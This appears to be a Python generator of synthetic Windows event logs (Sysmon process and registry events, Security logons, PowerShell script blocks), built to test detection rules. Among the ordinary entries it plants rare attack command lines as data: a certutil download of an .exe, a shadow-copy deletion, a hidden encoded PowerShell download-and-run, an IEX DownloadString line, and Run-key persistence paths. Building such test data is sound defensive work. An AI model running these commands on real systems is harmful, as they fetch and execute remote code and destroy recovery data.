# SPDX-License-Identifier: Apache-2.0
"""Events of five kinds for measurements, made from nothing but a seed, and written as event logs.

They look like the working day of a computer: programs, paths and scripts that repeat and change in the
way that real ones do, with a command now and then that rules look for. The same kind, count and seed give
the same bytes on every machine.
"""
import subprocess

SYSMON = 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'
SECURITY = 'Security', 'Microsoft-Windows-Security-Auditing', '{54849625-5478-4994-A5BA-3E3B0328C30D}'
POWERSHELL = ('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell',
              '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}')
SUBJECT = 'SubjectUserSid:sid SubjectUserName:s SubjectDomainName:s SubjectLogonId:x64 '
SYSMON_PROCESS = 'UtcTime:s ProcessGuid:g ProcessId:u32 Image:s '
PROGRAMS = [  # path, command line with {n} and {w}, share in thousandths
    (r'C:\Windows\System32\svchost.exe', r'C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s {w}', 150),
    (r'C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE', r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\fs01\share\{w}\report {n}.xlsx"', 90),
    (r'C:\Program Files\Google\Chrome\Application\chrome.exe', r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={n},{n},131072 --lang=ja --device-scale-factor=1 --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1', 180),
    (r'C:\Windows\System32\conhost.exe', r'\??\C:\WINDOWS\system32\conhost.exe 0xffffffff -ForceV1', 90),
    (r'C:\Windows\System32\cmd.exe', r'cmd.exe /c "C:\Tools\{w}\nightly.cmd" -stage {n} > C:\Logs\{w}-{n}.log', 70),
    (r'C:\Windows\System32\backgroundTaskHost.exe', r'"C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:App.AppX{n}{w}.mca', 70),
    (r'C:\Windows\System32\taskhostw.exe', 'taskhostw.exe {w}', 60),
    (r'C:\Windows\System32\rundll32.exe', r'C:\WINDOWS\system32\rundll32.exe C:\WINDOWS\system32\{w}.dll,Start{n}', 30),
    (r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', r'powershell.exe -NoProfile -File C:\Scripts\{w}\inventory.ps1 -Site {n}', 40),
    (r'C:\Windows\System32\net.exe', r'net use Z: \\fs01\{w} /persistent:no', 25),
    (r'C:\Windows\System32\SearchProtocolHost.exe', r'"C:\WINDOWS\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search"', 80),
    (r'C:\Users\takahashi\AppData\Local\Microsoft\Teams\current\Teams.exe', r'"C:\Users\takahashi\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process --{w}={n}', 80),
    (r'C:\Windows\System32\schtasks.exe', r'schtasks /query /tn "\{w}\Update {n}" /fo list', 15),
    (r'C:\Windows\System32\whoami.exe', 'whoami /all', 5),
    (r'C:\Windows\System32\certutil.exe', r'certutil -urlcache -split -f http://203.0.113.7/{w}.txt C:\Users\Public\{n}.exe', 5),
    (r'C:\Windows\System32\vssadmin.exe', 'vssadmin delete shadows /all /quiet', 5),
    (r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA', 5),
]
WORDS = 'archive billing calendar deploy export finance gateway hotfix intake journal kitting ledger metrics network orders payroll quality routing storage tickets update vendor workflow'.split()
SCRIPT_LINES = [
    'param([string]$Site = "{w}", [int]$Depth = {n})',
    '$items = Get-ChildItem -Path "C:\\Data\\{w}" -Recurse -Filter *.csv | Where-Object {{ $_.Length -gt {n} }}',
    'foreach ($item in $items) {{ Write-Verbose ("{w}: " + $item.FullName) }}',
    'function Get-{w}Total {{ param($rows) ($rows | Measure-Object -Property Amount -Sum).Sum }}',
    '$report = @{{ Host = $env:COMPUTERNAME; When = (Get-Date).ToString("s"); Total = {n} }}',
    'if (-not (Test-Path "C:\\Logs\\{w}")) {{ New-Item -ItemType Directory -Path "C:\\Logs\\{w}" | Out-Null }}',
    'Export-Csv -InputObject $report -Path "C:\\Logs\\{w}\\{n}.csv" -NoTypeInformation -Encoding UTF8',
    'try {{ $null = Invoke-Command -ComputerName "srv-{n}" -ScriptBlock {{ Get-Service {w} }} }} catch {{ Write-Warning $_ }}',
    '# {w} is checked every {n} minutes by the task of the same name',
    'Start-Sleep -Milliseconds {n}; $total += [math]::Round($rows[{n}].Amount / 3, 2)',
]
SCRIPT_RARE = [
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/{w}.ps1')",
    "$k = 'Inv' + 'oke-' + 'Exp' + 'ression'; & $k ('{{1}}{{0}}' -f '{n}', 'Get-Date ')",
]
KEYS = [r'HKLM\System\CurrentControlSet\Services\{w}\Parameters\{n}', r'HKU\S-1-5-21-1-2-3-1104\Software\{w}\View\Column{n}',
        r'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{w}{n}\DisplayVersion',
        r'HKLM\System\CurrentControlSet\Control\Class\{{4d36e96{n}}}\{w}', r'HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Office\16.0\{w}\Place MRU\Item {n}']
KEYS_RARE = [r'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\{w}', r'HKLM\System\CurrentControlSet\Services\{w}\ImagePath']


class Chance:
    """Numbers that depend on the seed alone, not on the version of Python's own generator."""

    def __init__(self, seed):
        self.state = seed * 2 + 1

    def below(self, n):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) & (2**64 - 1)
        return (self.state >> 33) % n

    def of(self, items):
        return items[self.below(len(items))]

    def fill(self, text):
        return text.format(n=self.below(90000) + 10000, w=self.of(WORDS))

    def guid(self):
        return '{%08X-%04X-%04X-%04X-%012X}' % tuple(self.below(16**d) for d in (7, 4, 4, 4, 7))

    def program(self):
        at = self.below(sum(share for _, _, share in PROGRAMS))
        for path, command, share in PROGRAMS:
            if at < share:
                return path, self.fill(command)
            at -= share
        raise AssertionError

    def time(self):
        return f'2020-12-22 0{self.below(10)}:{self.below(50) + 10}:{self.below(50) + 10}.{self.below(900) + 100}'


def process(c):
    image, command = c.program()
    parent, parent_command = c.program()
    name = image.rsplit('\\', 1)[1]
    hashes = 'SHA256=' + ''.join('%08X' % (len(image) * 2654435761 * (i + 1) & 0xffffffff) for i in range(8))
    return [c.time(), c.guid(), c.below(60000), image, '10.0.19041.1', name, 'Microsoft Windows Operating System',
            'Microsoft Corporation', name, command, 'C:\\WINDOWS\\system32\\', 'YAMABUKI\\takahashi', c.guid(), 0x5af21, 1,
            'Medium', hashes, c.guid(), c.below(60000), parent, parent_command, 'YAMABUKI\\takahashi']


def security_process(c):
    image, command = c.program()
    return ['S-1-5-21-1-2-3-1104', 'takahashi', 'YAMABUKI', 0x5af21, c.below(60000), image, '%%1938', c.below(60000),
            command, 'S-1-0-0', '-', '-', 0, c.program()[0], 'S-1-16-8192']


def script(c):
    lines = [c.fill(c.of(SCRIPT_LINES)) for _ in range(4 + c.below(32))]
    if c.below(40) == 0:
        lines.insert(2, c.fill(c.of(SCRIPT_RARE)))
    return [1, 1, '\r\n'.join(lines), c.guid().strip('{}').lower(), c.fill('C:\\Scripts\\{w}\\{n}.ps1')]


def registry(c):
    key = c.fill(c.of(KEYS_RARE if c.below(50) == 0 else KEYS))
    return ['SetValue', c.time(), c.guid(), c.below(60000), c.program()[0], key, c.fill('DWORD (0x000{n})'), 'YAMABUKI\\takahashi']


def logon(c):
    user = c.of(WORDS)
    return ['S-1-5-18', 'PC-01$', 'YAMABUKI', 0x3e7, f'S-1-5-21-1-2-3-{1100 + c.below(90)}', user, 'YAMABUKI', c.below(1 << 30),
            5, 'Advapi  ', 'Negotiate', '-', '{00000000-0000-0000-0000-000000000000}', '-', '-', 0, 0x2cc,
            'C:\\Windows\\System32\\services.exe', '-', '-', '%%1833', '-', '-', '-', '%%1843', 0, '%%1842']


VERSION = 'FileVersion:s Description:s Product:s Company:s OriginalFileName:s '
KINDS = {  # name: source, id, version, level, task, keywords, fields, values
    'process': (SYSMON, 1, 5, 4, 1, 1 << 63, SYSMON_PROCESS + VERSION + 'CommandLine:s CurrentDirectory:s User:s LogonGuid:g '
                'LogonId:x64 TerminalSessionId:u32 IntegrityLevel:s Hashes:s ParentProcessGuid:g ParentProcessId:u32 '
                'ParentImage:s ParentCommandLine:s ParentUser:s', process),
    'security-process': (SECURITY, 4688, 2, 0, 13312, 0x8020000000000000, SUBJECT + 'NewProcessId:sz NewProcessName:s '
                         'TokenElevationType:s ProcessId:sz CommandLine:s TargetUserSid:sid TargetUserName:s '
                         'TargetDomainName:s TargetLogonId:x64 ParentProcessName:s MandatoryLabel:sid', security_process),
    'script': (POWERSHELL, 4104, 1, 5, 2, 0, 'MessageNumber:i32 MessageTotal:i32 ScriptBlockText:s ScriptBlockId:s Path:s', script),
    'registry': (SYSMON, 13, 2, 4, 13, 1 << 63, 'EventType:s ' + SYSMON_PROCESS + 'TargetObject:s Details:s User:s', registry),
    'logon': (SECURITY, 4624, 2, 0, 12544, 0x8020000000000000, SUBJECT + 'TargetUserSid:sid TargetUserName:s TargetDomainName:s '
              'TargetLogonId:x64 LogonType:u32 LogonProcessName:s AuthenticationPackageName:s WorkstationName:s LogonGuid:g '
              'TransmittedServices:s LmPackageName:s KeyLength:u32 ProcessId:sz ProcessName:s IpAddress:s IpPort:s '
              'ImpersonationLevel:s RestrictedAdminMode:s TargetOutboundUserName:s TargetOutboundDomainName:s VirtualAccount:s '
              'TargetLinkedLogonId:x64 ElevatedToken:s', logon),
}


def write(tool, kind, count, path, seed=1):
    """Writes `count` events of `kind` to the event log `path`; a longer log begins like a shorter one."""
    source, event, version, level, task, keywords, fields, values = KINDS[kind]
    chance = Chance(seed)
    parts = [[*source, event, version, level, task, keywords, fields]] + [values(chance) for _ in range(count)]
    text = ''.join('\x1f'.join(str(v) for v in part) + '\x1e' for part in parts)
    subprocess.run([tool, path], input=text.encode(), check=True)
